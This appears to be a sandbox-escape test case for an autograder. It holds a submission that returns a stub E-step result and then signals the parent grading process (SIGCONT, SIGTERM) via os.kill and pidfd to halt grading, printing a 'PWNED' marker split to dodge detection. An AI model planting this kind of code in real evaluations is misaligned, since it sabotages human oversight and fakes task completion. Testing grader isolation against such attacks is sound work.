"""Sends SIGTERM to the parent process, the warm server or the grader, to stop the grading of the class."""

TRACE = "PWNED_parent"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import os
import signal

for number in (0, signal.SIGCONT, signal.SIGTERM):
    try:
        os.kill(os.getppid(), number)
        print("PWN" + "ED_parent", number)
    except OSError:
        pass
    try:
        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), number)
        print("PWN" + "ED_parent", "by descriptor", number)
    except OSError:
        pass
""",
}
